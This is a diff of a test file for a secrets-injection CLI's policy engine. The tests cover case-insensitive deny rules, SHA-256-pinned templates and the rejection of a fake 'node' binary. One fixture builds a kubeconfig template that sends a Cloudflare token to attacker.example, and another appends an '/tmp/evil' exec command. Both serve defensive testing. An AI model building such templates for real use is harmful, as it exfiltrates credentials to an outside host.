@@ -5,7 +5,8 @@
 // the dry run says what exec then does. Every run is scanned for canary values.
 
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { createHash } from 'node:crypto';
+import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { runClean } from '../helpers/run-cli.js';
 import { createSandbox, REPO_ROOT, type Sandbox } from '../helpers/sandbox.js';
@@ -112,9 +113,66 @@ describe('policy', () => {
     const denied = await runClean(sb, execArgs('cf', 'CF_TOKEN', '--secret', 'EXTRA=op://Infra/Shared/token'));
     expect(denied.code).toBe(10);
     expect(denied.stderr).toContain('approver is none');
-    expect(denied.stderr).toContain('missing rule: {decision: allow, profile: cf, executable: node, secrets: [CF_TOKEN, EXTRA]}');
+    expect(denied.stderr).toContain('missing rule: {decision: allow, profile: cf, executable: node, secrets: [{alias: CF_TOKEN, ref: op://Infra/Cloudflare/token}, {alias: EXTRA, ref: op://Infra/Shared/token}]}');
     expect(sb.prompts()).toHaveLength(0);
     expect(sb.opCalls()).toHaveLength(1);
+  });
+
+  it('a deny by reference holds for every case spelling of the reference', async () => {
+    sb.useApprover('approve', { approver: 'none' });
+    writePolicy(`version: 1
+rules:
+  - id: no-deploy
+    decision: deny
+    secrets: ["op://Infra/Deploy/**"]
+  - id: any-op
+    decision: allow
+    secrets: ["op://**"]
+`);
+    for (const ref of ['op://infra/deploy/username', 'op://INFRA/Deploy/username', 'op://Infra/DEPLOY/secret key']) {
+      const denied = await runClean(sb, ['exec', '--reason', 'x', '--secret', `S=${ref}`, '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, 'S']);
+      expect(denied.code).toBe(10);
+      expect(denied.stderr).toContain('policy rule no-deploy denies it');
+    }
+    expect(sb.opCalls()).toHaveLength(0);
+    expect(seen('S')).toEqual([]);
+  });
+
+  it('a rule listing references does not allow an agent-written template unless it names it', async () => {
+    sb.useApprover('approve', { approver: 'none' });
+    const text = 'server: https://attacker.example\ntoken: {{ op://Infra/Cloudflare/token }}\n';
+    const path = sb.write('kube.tpl', text);
+    const sha = createHash('sha256').update(text).digest('hex');
+    const args = ['exec', '--reason', 'x', '--template', `KUBECONFIG=kube.tpl`, '--', 'node', join(PROGRAMS, 'append-env.mjs'), sb.root, 'KUBECONFIG'];
+    writePolicy('version: 1\nrules:\n  - id: cf\n    decision: allow\n    secrets: ["op://Infra/Cloudflare/token"]\n');
+    const denied = await runClean(sb, args);
+    expect(denied.code).toBe(10);
+    expect(denied.stderr).toContain(`templates: [{path: ${path}, sha256: ${sha}}]`);
+    expect(sb.opCalls()).toHaveLength(0);
+    writePolicy(`version: 1\nrules:\n  - id: cf\n    decision: allow\n    secrets: ["op://Infra/Cloudflare/token"]\n    templates: [{path: kube.tpl, sha256: ${sha}}]\n`);
+    const allowed = await runClean(sb, args);
+    expect(allowed.code).toBe(0);
+    expect(sb.auditEvents().filter((e) => e.event === 'approval_granted').at(-1)).toMatchObject({ approver: 'policy', policy_rule: 'cf' });
+    // Edited: the pinned digest no longer matches.
+    sb.write('kube.tpl', `${text}exec: {command: /tmp/evil}\n`);
+    expect((await runClean(sb, args)).code).toBe(10);
+  });
+
+  it('a bare program name in a rule matches only a program in a system directory', async () => {
+    sb.useApprover('approve', { approver: 'none' });
+    writePolicy('version: 1\nrules:\n  - id: purge\n    decision: allow\n    argv: ["node"]\n    secrets: ["op://Infra/Cloudflare/token"]\n');
+    const fake = join(sb.root, 'bin', 'node');
+    mkdirSync(dirname(fake), { recursive: true });
+    writeFileSync(fake, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
+    const args = (program: string) => ['exec', '--reason', 'x', '--secret', 'CF_TOKEN=op://Infra/Cloudflare/token', '--', program, join(PROGRAMS, 'append-env.mjs'), sb.root, 'CF_TOKEN'];
+    const denied = await runClean(sb, args(fake));
+    expect(denied.code).toBe(10);
+    expect(denied.stderr).toContain(`executable: ${fake}`);
+    const explain = await runClean(sb, ['policy', 'explain', '--reason', 'x', '--secret', 'CF_TOKEN=op://Infra/Cloudflare/token', '--', fake, 'x']);
+    expect(explain.stdout).toContain('a bare program name matches only a program in a system directory');
+    const allowed = await runClean(sb, args('node'));
+    expect(allowed.code).toBe(0);
+    expect(seen('CF_TOKEN')).toEqual([cfDigest()]);
   });
 
   it('headless with no policy at all denies every exec', async () => {
